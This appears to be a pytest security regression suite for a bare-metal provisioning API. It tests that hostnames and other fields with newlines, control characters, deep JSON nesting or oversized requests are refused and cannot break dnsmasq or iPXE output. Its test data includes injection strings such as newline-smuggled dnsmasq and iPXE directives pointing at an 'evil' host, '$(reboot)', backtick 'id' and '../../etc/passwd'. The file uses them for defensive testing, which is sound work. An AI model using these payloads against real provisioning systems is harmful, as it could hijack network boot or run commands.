"""Hostile input (issue 12, attacks 3 and 4 and the minor items), replayed:

3. a hostname ending in a newline was accepted (the validators ended in ``$``),
   broke ``dnsmasq --test`` for the whole provisioning network, split the
   tenant's iPXE script, and ``/boot/ipxe?mac=…%0A`` echoed the newline;
4. anonymous 500s with log amplification: JSON nested ~400 deep (the NUL check
   recursed), integers over 4,300 digits, lone surrogates;
minor: duplicate JSON keys silently took the last one; 414/431 answered HTML.

Then the property: hostile strings in every string field of every request schema
of the served document (Hypothesis, fixed seed, bounded examples per field): never
a 5xx, no control character in any iPXE script or dnsmasq file Ingot renders, and
``dnsmasq --test`` passes on the rendered configuration.
"""
from __future__ import annotations

import json
import logging
import os
import re
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import selectinload

from api.boot.dnsmasq import DnsmasqOptions, render
from api.boot.ipxe import boot_phase, script_for
from api.models import Device, Machine, OperatingSystem
from api.security import limiter
from tests.security.test_isolation_matrix import Upload, body_for
from tests.support.clients import API
from tests.support.dnsmasq import dnsmasq_test
from tests.support.netboot import raw_http
from tests.support.world import fill, spec_document

DEVICE = {"plan": "sim.small", "metro": "lab", "operating_system": "debian_12"}
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")  # the test's own idea of a control character
IPXE_LINE = ("#!ipxe", "# ", "echo ", "kernel ", "initrd ", "boot ", ":failed", "sleep ", "reboot", "chain ", "exit")


def _errors(r, status):
    assert r.status_code == status, (r.status_code, r.data[:300])
    assert r.is_json and r.json["errors"], r.data[:300]
    return " ".join(r.json["errors"])


# --- 3. a hostname ending in a newline --------------------------------------------------------------

@pytest.mark.parametrize("name", ["evil\n", "evil\r\n", "ev\nil", "\nevil", "evil\x00", "evil\u2028"])
def test_a_hostname_with_a_line_break_is_refused(lab, tenant, operator, name):
    r = tenant.post(f"/projects/{tenant.project_id}/devices", {**DEVICE, "hostname": name})
    assert "hostname" in _errors(r, 400 if "\x00" in name else 422)
    r = operator.post("/machines", {"hostname": name, "metro": "lab", "bmc": {"driver": "sim", "address": "x"}})
    assert "hostname" in _errors(r, 400 if "\x00" in name else 422)
    r = tenant.post(f"/projects/{tenant.project_id}/devices/batch",
                    {"batches": [{**DEVICE, "hostnames": [name], "quantity": 1}]})
    assert r.status_code in (400, 422)


def test_a_mac_with_a_line_break_is_not_echoed(client):
    r = client.get("/metal/v1/boot/ipxe?mac=52:54:00:00:00:01%0A")
    assert "mac" in _errors(r, 422) and "\n" not in r.get_data(as_text=True).strip()


def test_names_stored_by_older_versions_cannot_break_dnsmasq_or_ipxe(lab, tenant, database, box, tmp_path):
    """Whatever a hostname holds, the rendered files keep their shape."""
    dev = tenant.post(f"/projects/{tenant.project_id}/devices", {**DEVICE, "hostname": "fine"}).json
    with database.transaction() as s:  # as if an older version had let them in
        d = s.get(Device, dev["id"])
        d.hostname = "evil\nserver=6.6.6.6"
        d.machine.hostname = "sim-x\ndhcp-boot=tag:ipxe,http://evil/x"
        s.scalar(select(OperatingSystem).where(OperatingSystem.slug == "debian_12")).name = "Deb\nchain http://evil"
        m = d.machine
        m.operation_args = {**m.operation_args, "pos": m.operation_args["steps"].index("wait_boot")}
    _check_rendered(database, tmp_path)


# --- 4. anonymous 500s and log amplification -------------------------------------------------------

def test_deep_nesting_is_a_400_before_authentication(client, caplog):
    caplog.set_level(logging.INFO)
    for body in ("[" * 400 + "]" * 400, '{"a":' * 400 + "1" + "}" * 400, "[" * 100_000):
        r = client.post("/metal/v1/projects", data=body, content_type="application/json")
        assert "nested deeper than 32 levels" in _errors(r, 400)
    assert "Traceback" not in caplog.text and len(caplog.text) < 2000  # one access line each, no amplification
    ok = "[" * 32 + "]" * 32
    assert client.post("/metal/v1/projects", data=ok, content_type="application/json").status_code == 401


@pytest.mark.parametrize("literal,words", [
    ("1" * 5000, "integer outside the 64-bit range"),
    (str(2 ** 63), "integer outside the 64-bit range"),
    (str(-2 ** 63 - 1), "integer outside the 64-bit range"),
    ("1e999", "must be a finite number"),
    ("NaN", "must be a finite number"),
    ('"\\ud800"', "not valid Unicode"),
    ('"a\\udfffb"', "not valid Unicode"),
])
def test_numbers_and_unicode_no_database_stores_are_422_naming_the_field(client, tenant, literal, words):
    for headers in ({}, tenant.headers):  # anonymous or not: the same 422, never a 500
        r = client.post("/metal/v1/projects", data='{"name": %s}' % literal, content_type="application/json",
                        headers=headers)
        text = _errors(r, 422)
        assert text.startswith("name: ") and words in text
    r = client.post(f"/metal/v1/projects/{tenant.project_id}/devices", headers=tenant.headers,
                    content_type="application/json",
                    data='{"batches": [{"hostnames": ["a", %s]}], "plan": "x"}' % literal)
    assert _errors(r, 422).startswith("batches.0.hostnames.1: ")


def test_lone_surrogates_in_keys_and_text_fields_never_reach_the_database(lab, tenant):
    for body in ('{"name": "ok", "\\ud800": 1}', '{"hostname": "a", "tags": ["\\udc00"], "plan": "sim.small"}'):
        r = tenant.post(f"/projects/{tenant.project_id}/devices", data=body, content_type="application/json")
        assert r.status_code == 422, r.data


# --- minor items --------------------------------------------------------------------------------------

def test_duplicate_json_keys_are_a_400(lab, tenant, database):
    dev = tenant.post(f"/projects/{tenant.project_id}/devices", {**DEVICE, "hostname": "dup"}).json
    with database.transaction() as s:
        d = s.get(Device, dev["id"])
        d.machine.operation = d.machine.step = None
        d.machine.state, d.state = "active", "active"
    r = tenant.post(f"/devices/{dev['id']}/actions", data='{"type": "power_on", "type": "reinstall"}',
                    content_type="application/json")
    assert "duplicate key 'type'" in _errors(r, 400)
    with database.Session() as s:
        assert s.get(Device, dev["id"]).machine.operation is None  # nothing was started


def test_control_characters_are_refused_in_text_fields_but_free_text_keeps_its_lines(lab, tenant, operator):
    pid = tenant.project_id
    assert "tags" in _errors(tenant.post(f"/projects/{pid}/devices", {**DEVICE, "tags": ["a\nb"]}), 422)
    assert "name" in _errors(tenant.post("/projects", {"name": "p\x1b[31m"}), 422)
    assert "label" in _errors(tenant.post("/ssh-keys", {"label": "k\r", "key": "ssh-ed25519 AAAA"}), 422)
    assert "name" in _errors(operator.post("/operating-systems", {"slug": "x1", "name": "X\nY"}), 422)
    assert "ipxe_script_url" in _errors(tenant.post(f"/projects/{pid}/devices", {
        **DEVICE, "operating_system": "custom_ipxe", "ipxe_script_url": "http://a/b c"}), 422)
    assert "cmdline_template" in _errors(operator.post("/operating-systems", {
        "slug": "x2", "name": "X", "cmdline_template": "{% if %}"}), 422)
    r = tenant.post(f"/projects/{pid}/devices", {**DEVICE, "hostname": "multi", "userdata": "#!/bin/sh\n\techo hi\r\n",
                                                 "description": "two\nlines"})
    assert r.status_code == 201, r.json


def test_request_paths_cannot_forge_log_lines(client, tenant, caplog):
    caplog.set_level(logging.INFO, logger="ingot.access")
    client.get("/metal/v1/devices/abc%0A2026-01-01 INFO forged line", headers=tenant.headers)
    lines = [r.getMessage() for r in caplog.records if r.name == "ingot.access"]
    assert any("abc\\n2026-01-01 INFO forged line" in line for line in lines) and all("\n" not in line
                                                                                        for line in lines)


def test_the_servers_own_errors_are_json(server):
    port = server.port
    cases = {414: b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
             431: b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"b" * 70_000 + b"\r\n\r\n"}
    cases[-431] = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: 1\r\n" % i for i in range(150)) + b"\r\n"
    for expected, request in cases.items():
        status, ctype, body = raw_http("127.0.0.1", port, request)
        assert status == abs(expected) and ctype.startswith("application/json"), (status, ctype, body[:200])
        assert json.loads(body)["errors"], body


# --- the property --------------------------------------------------------------------------------------

EXAMPLES = int(os.environ.get("INGOT_HOSTILE_EXAMPLES", "8"))
CURATED = ["evil\n", "a\r\nexit", "x\x00y", "\ud800", "\udfff", "a" * 5000, "${net0/mac}", "$(reboot)", "`id`",
           "'; reboot #", "a b", "\t", "a\u2028b", "a\x85b", "\x1b[31m", "é", "#", ",set:ingot", "../../etc/passwd",
           "%0A", "{{ 7*7 }}", "{% raw %}", "", " ", "0", "-1", "null"]
HOSTILE = st.one_of(
    st.sampled_from(CURATED),
    st.text(alphabet=st.characters(exclude_categories=()), max_size=40),  # any code point, surrogates too
    st.text(alphabet=st.sampled_from(list("\n\r\t\x00\x0b\x1b\x7f\x85\u2028${},;#'\"\\` a")), max_size=12)
    .map(lambda s: "ok" + s),
)


def _string_fields(schema: dict, spec: dict, prefix: str = "", depth: int = 0) -> list[str]:
    """Dotted paths (``batches.0.hostname``) of the string fields a request schema accepts."""
    if "$ref" in schema:
        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[-1]]
    if depth > 4:
        return []
    kind = schema.get("type")
    if kind == "string" or (kind is None and not schema.get("properties") and not schema.get("items")):
        return [prefix] if prefix and not schema.get("readOnly") else []
    if kind == "array":
        return _string_fields(schema.get("items") or {}, spec, f"{prefix}.0", depth + 1)
    out = []
    for name, sub in (schema.get("properties") or {}).items():
        if not sub.get("readOnly"):
            out += _string_fields(sub, spec, f"{prefix}.{name}" if prefix else name, depth + 1)
    return out


def _fields() -> list[tuple[str, str, str, str]]:
    """(method, path, where: body|query, field) for every string field of every request."""
    spec = spec_document()
    out = []
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            if not isinstance(op, dict):
                continue
            for p in op.get("parameters", []):
                if p.get("in") == "query" and p.get("schema", {}).get("type") == "string":
                    out.append((method.upper(), path, "query", p["name"]))
            content = (op.get("requestBody") or {}).get("content", {})
            if "application/json" in content:
                out += [(method.upper(), path, "body", f) for f in
                        _string_fields(content["application/json"]["schema"], spec)]
    return out


FIELDS = _fields()


def _put(body: dict, dotted: str, value) -> dict:
    """``body`` with the field at ``dotted`` set to ``value`` (lists and objects made as needed)."""
    body = json.loads(json.dumps(body))
    keys = [int(k) if k.isdigit() else k for k in dotted.split(".")]
    node = body
    for key, nxt in zip(keys, keys[1:]):
        empty = [] if isinstance(nxt, int) else {}
        if isinstance(key, int):
            while len(node) <= key:
                node.append(json.loads(json.dumps(empty)))
            if not isinstance(node[key], type(empty)):
                node[key] = empty
        elif not isinstance(node.get(key), type(empty)):
            node[key] = empty
        node = node[key]
    last = keys[-1]
    if isinstance(last, int):
        while len(node) <= last:
            node.append(None)
    node[last] = value
    return body


def _check_rendered(database, tmp_path) -> None:
    """Every machine's iPXE script and the dnsmasq configuration keep their shape."""
    with database.Session() as s:
        machines = list(s.scalars(select(Machine).options(
            selectinload(Machine.nics), selectinload(Machine.device).selectinload(Device.operating_system))))
        for m in machines:
            d = m.device
            phase = boot_phase(m, d)
            try:
                text = script_for(m, d, "http://ingot.test", "credential" if phase != "exit" else None).text
            except ValueError:  # an OS record's template that does not render: the boot endpoint says exit
                continue
            for line in text.splitlines():
                assert not CONTROL.search(line) and line.startswith(IPXE_LINE), (m.hostname, line)
        tftp = tmp_path / "tftp"
        tftp.mkdir(exist_ok=True)
        conf = render(s, DnsmasqOptions(ipxe_base_url="http://10.66.0.2:8080", tftp_root=str(tftp),
                                        dhcp_ranges=["10.66.0.200,10.66.0.250,255.255.255.0,1h"]))
    assert not any(CONTROL.search(line) for line in conf.split("\n"))
    if conf not in _DNSMASQ_OK:  # most examples change nothing dnsmasq sees: test each new text once
        path = tmp_path / "dnsmasq.conf"
        path.write_text(conf)
        check = dnsmasq_test(path)
        assert check.returncode == 0, check.stderr
        _DNSMASQ_OK.add(conf)


_DNSMASQ_OK: set[str] = set()


@pytest.mark.parametrize("method,path,where,field", FIELDS,
                         ids=[f"{m} {p[len(API):]} {w}:{f}" for m, p, w, f in FIELDS])
def test_hostile_strings_in_every_field(method, path, where, field, shared, tmp_path):
    x = shared
    lim = limiter(x.app)
    lim.limit = lim.lookup_limit = 0  # this test sends many odd requests from one address on purpose
    url = fill(path, x.world)
    base = None if where == "query" else body_for(method, path, x.world, "operator")
    if isinstance(base, Upload):
        pytest.skip("a file upload: its entries go through the machine schema, fuzzed at POST /machines")

    @given(value=HOSTILE)
    @settings(max_examples=EXAMPLES, derandomize=True, database=None, deadline=None,
              suppress_health_check=list(HealthCheck))
    def one(value):
        if where == "query":  # as bytes on the wire: a lone surrogate is invalid UTF-8 there
            query = f"{quote(field)}={quote(value.encode('utf-8', 'surrogatepass'))}"
            r = x.client.open(url, method=method, query_string=query, headers=x.operator.headers)
        else:
            r = x.client.open(url, method=method, headers=x.operator.headers,
                              data=json.dumps(_put(base or {}, field, value)), content_type="application/json")
        assert r.status_code < 500, (value, r.status_code, r.data[:300])
        if r.status_code >= 400:
            assert r.is_json and r.json["errors"], (value, r.data[:300])
        if method != "GET":  # a read changes nothing rendered
            _check_rendered(x.database, tmp_path)

    one()
